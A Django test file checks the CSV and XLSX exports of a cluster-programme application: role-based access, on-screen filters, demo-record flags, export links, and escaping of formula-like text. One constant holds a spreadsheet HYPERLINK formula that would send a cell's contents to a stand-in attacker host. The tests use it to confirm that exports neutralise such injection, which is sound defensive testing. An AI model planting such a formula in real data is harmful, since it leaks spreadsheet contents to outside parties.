"""Exports of every list (issue 10, part 4): each list as CSV and XLSX, only for the roles of its
page, filtered as on screen, formula-like text exported as text, demo records marked, and linked
from the list pages."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from django.test import Client, TestCase

from tests.api.world import DEMO_USER, demo_user, load_world

pytestmark = [pytest.mark.slow]

EVERYONE = set(DEMO_USER)
#: Who may export each list: the roles of the page it mirrors (written out here, from the issue and
#: the pages, so that a change of the registry is caught).
ROLES = {
    "competitions": EVERYONE | {"anonymous"},
    "applications": {"applicant", "organizer", "administrator"},
    "ranked": {"organizer", "commission_secretary", "administrator"},  # the organizer and the Commission
    "expert-load": {"organizer", "administrator"},
    "conclusions": {"akimat", "authorized_body", "regional_body", "organizer", "administrator"},
    "register": EVERYONE | {"anonymous"},
    "programmes": {"organizer", "analyst", "applicant", "akimat", "authorized_body"},
    "support": {"applicant", "organizer"},
    "audit": {"administrator"},
}
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def client(role: str) -> Client:
    c = Client(raise_request_exception=False)
    if role != "anonymous":
        c.force_login(demo_user(role))
    return c


def csv_rows(resp) -> list[dict]:
    assert resp.status_code == 200, (resp.status_code, resp.content[:300])
    assert resp["Content-Type"].startswith("text/csv")
    text = b"".join(resp.streaming_content).decode("utf-8-sig") if resp.streaming else resp.content.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text)))


def xlsx_sheets(resp) -> dict[str, list[dict]]:
    assert resp.status_code == 200, (resp.status_code, resp.content[:300])
    data = b"".join(resp.streaming_content) if resp.streaming else resp.content
    book = openpyxl.load_workbook(io.BytesIO(data))
    out = {}
    for ws in book.worksheets:
        rows = list(ws.iter_rows())
        head = [c.value for c in rows[0]]
        out[ws.title] = [dict(zip(head, r)) for r in rows[1:]]
    return out


def values(cells: list[dict], col: str) -> list:
    return [r[col].value if hasattr(r[col], "value") else r[col] for r in cells]


class ExportsOnTheDemoWorld(TestCase):
    @classmethod
    def setUpTestData(cls):
        load_world()
        from klaster.competition.models import Competition

        cls.ranked_comp = Competition.objects.get(state="stage1_commission").pk

    def params(self, name: str) -> dict:
        return {"competition": self.ranked_comp} if name == "ranked" else {}

    # -------------------------------------------------------------- who may export

    def test_every_list_as_csv_and_xlsx_only_for_the_roles_of_its_page(self):
        from klaster.exports.lists import registry

        assert set(registry()) == set(ROLES)
        for name, allowed in ROLES.items():
            for role in ["anonymous", *DEMO_USER]:
                c = client(role)
                for fmt in ("csv", "xlsx"):
                    r = c.get(f"/exports/{name}/", {**self.params(name), "fmt": fmt})
                    if role in allowed:
                        assert r.status_code == 200, (name, role, fmt, r.status_code, r.content[:300])
                        assert r["Content-Disposition"].startswith("attachment") and f".{fmt}" in r["Content-Disposition"]
                        if fmt == "xlsx":
                            assert xlsx_sheets(r)
                        else:
                            assert csv_rows(r) is not None
                    elif role == "anonymous":
                        assert r.status_code == 302 and "/accounts/login/" in r["Location"], (name, fmt)
                    else:
                        assert r.status_code == 403, (name, role, fmt, r.status_code)
            # the exports page offers exactly the lists the role may export
        for role in ["anonymous", *DEMO_USER]:
            offered = {e.name for e, _f in client(role).get("/exports/").context["items"]}
            assert offered == {n for n, a in ROLES.items() if role in a}, role

    def test_a_malformed_filter_is_a_form_error_and_builds_nothing(self):
        c = client("organizer")
        for name, params in [("competitions", {"state": "nope"}), ("applications", {"competition": "9" * 30}), ("applications", {"stage": "3"}),
                             ("ranked", {"competition": "abc"}), ("ranked", {}), ("register", {"date": "2026-02-30"}), ("register", {"date": "9999-12-31"}),
                             ("programmes", {"year": "1e30"}), ("support", {"status": "nope"}), ("competitions", {"fmt": "pdf"}),
                             ("register", {"sheet": "nope"}), ("ranked", {"competition": "999999"})]:
            r = c.get(f"/exports/{name}/", {"fmt": "csv", **params})
            assert r.status_code == 400, (name, params, r.status_code)
            assert r["Content-Type"].startswith("text/html") and r.context["errors"], (name, params)
        assert c.get("/exports/no-such-list/").status_code == 404

    # -------------------------------------------------------------- filtered as on screen

    def test_competitions_filtered_by_state(self):
        from klaster.competition.models import Competition

        c = client("anonymous")
        every = csv_rows(c.get("/exports/competitions/", {"fmt": "csv"}))
        assert {int(r["id"]) for r in every} == set(Competition.objects.exclude(state="draft").values_list("pk", flat=True))
        one = csv_rows(c.get("/exports/competitions/", {"fmt": "csv", "state": "stage1_review"}))
        assert one and {r["state"] for r in one} == {"stage1_review"} and len(one) < len(every)

    def test_applications_with_states_and_deadlines_filtered_and_only_ones_own(self):
        from klaster.competition.models import Application

        applicant = demo_user("applicant")
        own = csv_rows(client("applicant").get("/exports/applications/", {"fmt": "csv"}))
        assert {int(r["id"]) for r in own} == set(Application.objects.filter(applicant=applicant).values_list("pk", flat=True))
        org = client("organizer")
        every = csv_rows(org.get("/exports/applications/", {"fmt": "csv"}))
        assert len(every) == Application.objects.count() > len(own)
        comp = self.ranked_comp
        some = csv_rows(org.get("/exports/applications/", {"fmt": "csv", "competition": comp}))
        assert {int(r["id"]) for r in some} == set(Application.objects.filter(competition_id=comp).values_list("pk", flat=True))
        returned = csv_rows(org.get("/exports/applications/", {"fmt": "csv", "state": "returned"}))
        assert returned and {r["state"] for r in returned} == {"returned"}
        book = xlsx_sheets(org.get("/exports/applications/", {"fmt": "xlsx", "competition": comp}))
        assert set(book) == {"applications", "deadlines"}
        assert book["deadlines"] and {r["application"].value for r in book["deadlines"]} <= {int(r["id"]) for r in some}
        assert all(r["clause"].value for r in book["deadlines"])  # each deadline names its clause
        dl = csv_rows(org.get("/exports/applications/", {"fmt": "csv", "sheet": "deadlines", "competition": comp}))
        assert len(dl) == len(book["deadlines"])

    def test_the_ranked_list_has_each_experts_score_of_every_criterion(self):
        from klaster.competition.models import ScoreSheet

        sheets = ScoreSheet.objects.filter(assignment__application__competition_id=self.ranked_comp, submitted_at__isnull=False) \
            .select_related("assignment__expert", "assignment__application")
        want = {(s.assignment.application_id, s.assignment.expert.get_username(), k): float(v) for s in sheets for k, v in s.scores.items()}
        assert want, "the demo competition at the Commission has no submitted score sheets"
        for role in ("organizer", "commission_secretary"):
            book = xlsx_sheets(client(role).get("/exports/ranked/", {"fmt": "xlsx", "competition": self.ranked_comp}))
            got = {(r["application"].value, r["expert"].value, r["criterion"].value): float(r["score"].value) for r in book["scores"]
                   if r["score"].value is not None}
            assert got == want, role
            ranks = [r["rank"].value for r in book["ranked"]]
            assert ranks == sorted(ranks) and ranks
        # another competition's list holds none of these
        from klaster.competition.models import Competition

        other = Competition.objects.exclude(pk=self.ranked_comp).exclude(state="draft").order_by("id").first()
        rows = csv_rows(client("organizer").get("/exports/ranked/", {"fmt": "csv", "sheet": "scores", "competition": other.pk}))
        assert not {int(r["application"]) for r in rows} & {k[0] for k in want}

    def test_expert_load_and_conclusions_filtered(self):
        from klaster.competition.models import Conclusion, ExpertAssignment

        org = client("organizer")
        load = csv_rows(org.get("/exports/expert-load/", {"fmt": "csv", "competition": self.ranked_comp}))
        assigned = ExpertAssignment.objects.filter(application__competition_id=self.ranked_comp)
        assert sum(int(r["assigned"]) for r in load) == assigned.count() > 0
        every = csv_rows(org.get("/exports/conclusions/", {"fmt": "csv"}))
        assert len(every) == Conclusion.objects.count() > 0
        for body in {r["body"] for r in every}:
            rows = csv_rows(org.get("/exports/conclusions/", {"fmt": "csv", "body": body}))
            assert {r["body"] for r in rows} == {body}
        akimat = csv_rows(client("akimat").get("/exports/conclusions/", {"fmt": "csv"}))
        assert {r["body"] for r in akimat} <= {"akimat"} and len(akimat) < len(every)
        issued = csv_rows(org.get("/exports/conclusions/", {"fmt": "csv", "state": "issued"}))
        assert all(r["issued_on"] for r in issued)

    def test_the_register_on_a_date_with_its_participants(self):
        c = client("anonymous")
        # the page's rows as rendered (a signed-in reader: anonymous visitors may be served a kept
        # copy of the page, which has no template context)
        page = client("analyst").get("/register/", {"date": "2024-01-15"})
        book = xlsx_sheets(c.get("/exports/register/", {"fmt": "xlsx", "date": "2024-01-15"}))
        assert [r["code"].value for r in book["clusters"]] == [r["c"].code for r in page.context["rows"]]
        assert [r["members"].value for r in book["clusters"]] == [r["members"] for r in page.context["rows"]]
        assert len(book["participants"]) == sum(r["members"] for r in page.context["rows"])
        assert csv_rows(c.get("/exports/register/", {"fmt": "csv", "date": "2021-03-01"})) == []  # before the inclusions
        milk = csv_rows(c.get("/exports/register/", {"fmt": "csv", "sheet": "participants", "date": "2024-01-15", "cluster": "milk"}))
        assert milk and {r["cluster"] for r in milk} == {"milk"}
        assert "register-participants-2024-01-15.csv" in c.get("/exports/register/", {"fmt": "csv", "sheet": "participants",
                                                                                      "date": "2024-01-15"})["Content-Disposition"]

    def test_programmes_with_targets_and_actuals_for_who_may_read_them(self):
        from klaster.programmes import domain
        from klaster.programmes.models import Programme
        from klaster.programmes.rules import programmes_for

        for role in ("organizer", "akimat", "applicant"):
            book = xlsx_sheets(client(role).get("/exports/programmes/", {"fmt": "xlsx"}))
            assert {r["programme"].value for r in book["programmes"]} == set(programmes_for(demo_user(role)).values_list("cluster__code", flat=True))
        p = Programme.objects.order_by("cluster__code").first()
        rows = domain.monitoring_rows(p)
        one = csv_rows(client("organizer").get("/exports/programmes/", {"fmt": "csv", "programme": p.cluster.code}))
        assert len(one) == len(rows) > 0 and {r["programme"] for r in one} == {p.cluster.code}
        year = rows[0]["year"]
        y = csv_rows(client("organizer").get("/exports/programmes/", {"fmt": "csv", "programme": p.cluster.code, "year": year}))
        assert {int(r["year"]) for r in y} == {year} and len(y) == sum(r["year"] == year for r in rows)
        assert any(r["actual"] for r in one) and all(r["target"] for r in one)

    def test_support_applications_with_amounts(self):
        from klaster.support.models import Application

        org = client("organizer")
        every = csv_rows(org.get("/exports/support/", {"fmt": "csv"}))
        assert {int(r["id"]) for r in every} == set(Application.objects.values_list("pk", flat=True))
        paid = csv_rows(org.get("/exports/support/", {"fmt": "csv", "status": "paid"}))
        assert paid and {r["status"] for r in paid} == {"paid"} and paid[0]["claimed_tenge"] and paid[0]["amount_tenge"]
        a = Application.objects.get(pk=int(paid[0]["id"]))
        assert float(paid[0]["claimed_tenge"]) == float(sum(c.amount for c in a.costs.all()))
        from tests.conftest import make_user

        outsider = Client()
        outsider.force_login(make_user("other-applicant", "applicant"))
        assert csv_rows(outsider.get("/exports/support/", {"fmt": "csv"})) == []

    def test_the_audit_trail_for_the_administrator_filtered(self):
        from klaster.common.models import AuditEntry

        admin = client("administrator")
        every = csv_rows(admin.get("/exports/audit/", {"fmt": "csv"}))
        assert len(every) == AuditEntry.objects.count() > 0
        action = AuditEntry.objects.values_list("action", flat=True).first()
        some = csv_rows(admin.get("/exports/audit/", {"fmt": "csv", "action__exact": action}))
        assert some and {r["action"] for r in some} == {action} and len(some) == AuditEntry.objects.filter(action=action).count()
        assert csv_rows(admin.get("/exports/audit/", {"fmt": "csv", "until": "1995-01-01"})) == []

    # -------------------------------------------------------------- text stays text; demo marked

    def test_a_participant_named_like_a_formula_is_exported_as_text(self):
        from klaster.competition.models import Application
        from klaster.register.models import Membership

        m = Membership.objects.filter(left_on=None, cluster__code="milk").select_related("participant").first()
        type(m.participant).objects.filter(pk=m.participant.pk).update(name=EVIL)
        a = Application.objects.filter(competition_id=self.ranked_comp).order_by("id").first()
        Application.objects.filter(pk=a.pk).update(organisation_name=EVIL)
        from klaster.support.models import Application as SupportApplication

        sa = SupportApplication.objects.select_related("participant").first()
        type(sa.participant).objects.filter(pk=sa.participant.pk).update(name=EVIL)
        org = client("organizer")
        cases = [("register", {"date": "2024-01-15"}, "participants", "name"), ("applications", {}, "applications", "organisation_name"),
                 ("ranked", {"competition": self.ranked_comp}, "ranked", "participant"), ("support", {}, "support applications", "participant")]
        for name, params, sheet, col in cases:
            rows = csv_rows(org.get(f"/exports/{name}/", {**params, "fmt": "csv", "sheet": sheet}))
            cells = [r[col] for r in rows if "HYPERLINK" in r[col]]
            assert cells and all(v == "'" + EVIL for v in cells), (name, cells)
            book = xlsx_sheets(org.get(f"/exports/{name}/", {**params, "fmt": "xlsx"}))
            xcells = [r[col] for r in book[sheet] if "HYPERLINK" in str(r[col].value)]
            assert xcells, name
            for cell in xcells:
                assert cell.data_type == "s" and cell.value == EVIL and cell.quotePrefix, (name, cell.data_type, cell.value)

    def test_demo_records_are_marked(self):
        from klaster.register.models import Cluster

        c = client("anonymous")
        rows = csv_rows(c.get("/exports/register/", {"fmt": "csv", "date": "2024-01-15"}))
        assert rows and {r["is_demo"] for r in rows} == {"yes"}
        Cluster.objects.filter(code="milk").update(is_demo=False)
        rows = {r["code"]: r["is_demo"] for r in csv_rows(c.get("/exports/register/", {"fmt": "csv", "date": "2024-01-15"}))}
        assert rows["milk"] == "no" and set(rows.values()) == {"yes", "no"}
        assert {r["is_demo"] for r in csv_rows(c.get("/exports/competitions/", {"fmt": "csv"}))} == {"yes"}
        assert {r["is_demo"] for r in csv_rows(client("organizer").get("/exports/support/", {"fmt": "csv"}))} == {"yes"}

    # -------------------------------------------------------------- links on the list pages

    def test_the_list_pages_link_their_exports_with_their_filters(self):
        from klaster.programmes.models import Programme

        cases = [
            ("anonymous", "/competition/", {}, "competitions"),
            ("anonymous", "/register/", {"date": "2024-01-15"}, "register"),
            ("applicant", "/competition/my/", {}, "applications"),
            ("organizer", f"/competition/organizer/{self.ranked_comp}/", {}, "applications"),
            ("organizer", f"/competition/organizer/{self.ranked_comp}/ranked/", {}, "ranked"),
            ("commission_secretary", f"/competition/commission/{self.ranked_comp}/", {}, "ranked"),
            ("organizer", f"/competition/organizer/{self.ranked_comp}/council/", {}, "expert-load"),
            ("akimat", "/competition/conclusions/", {}, "conclusions"),
            ("organizer", "/programmes/", {}, "programmes"),
            ("organizer", "/support/", {}, "support"),
            ("administrator", "/admin/common/auditentry/", {}, "audit"),
        ]
        assert {x[3] for x in cases} == set(ROLES)
        for role, url, query, name in cases:
            c = client(role)
            r = c.get(url, query)
            assert r.status_code == 200, (url, r.status_code)
            html = r.content.decode()
            for fmt in ("csv", "xlsx"):
                assert f'href="/exports/{name}/?' in html and f"fmt={fmt}" in html, (url, name, fmt)
            links = [h for h in __import__("re").findall(r'href="(/exports/[^"]+)"', html) if h.startswith(f"/exports/{name}/")]
            for k, v in query.items():
                assert all(f"{k}={v}" in h for h in links), (url, links)
            got = c.get(links[0].replace("&amp;", "&"))
            assert got.status_code == 200, (url, links[0], got.status_code)
        assert Programme.objects.exists()
